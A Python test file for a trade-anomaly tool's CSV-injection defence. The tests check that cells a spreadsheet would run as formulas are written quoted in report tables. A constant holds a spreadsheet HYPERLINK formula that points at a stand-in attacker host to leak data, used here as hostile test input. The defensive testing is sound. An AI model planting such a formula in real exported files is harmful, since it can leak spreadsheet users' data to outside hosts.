"""CSV injection: text a spreadsheet would run as a formula is written quoted in every report table."""

from __future__ import annotations

import pandas as pd
from click.testing import CliRunner

from tradeanomaly.cli import main
from tradeanomaly.csvsafe import protect, unprotect

EVIL = '=HYPERLINK("http://evil.example/?leak","click")'


def test_protect_quotes_formula_text_and_leaves_numbers():
    df = pd.DataFrame({"t": [EVIL, "+1", "-x", "@SUM(A1)", "\tx", "ok", None], "n": [-1.5, 2, 3, 4, 5, 6, 7],
                       "c": pd.Categorical(["=1", "a", "a", "a", "a", "a", "a"])})
    out = protect(df)
    assert out["t"].tolist()[:6] == ["'" + EVIL, "'+1", "'-x", "'@SUM(A1)", "'\tx", "ok"] and pd.isna(out["t"].iloc[6])
    assert out["n"].tolist() == df["n"].tolist()
    assert out["c"].astype(str).tolist()[0] == "'=1"
    back = unprotect(out.astype({"c": str}))
    assert back["t"].tolist()[:6] == df["t"].tolist()[:6]


def test_a_hostile_quantity_unit_never_reaches_a_detail_table_as_a_formula(tmp_path):
    from tradeanomaly.synth import generate

    flows = generate(seed=0, months=24).flows
    flows.loc[flows["quantity_unit"] == "kg", "quantity_unit"] = EVIL
    path = tmp_path / "flows.csv"
    flows.to_csv(path, index=False)
    out = tmp_path / "out"
    r = CliRunner().invoke(main, ["mirror", "--source", "canonical", str(path), "--out", str(out)])
    assert r.exit_code == 0, r.output
    n_cells = 0
    for csv in out.glob("*.csv"):
        df = pd.read_csv(csv, dtype=str, keep_default_na=False)
        for c in df.columns:
            s = df[c]
            assert not s.str.startswith(("=", "+", "@")).any(), (csv.name, c)
            n_cells += int(s.str.startswith("'=HYPERLINK").sum())
    assert n_cells > 100  # the unit is there, as text
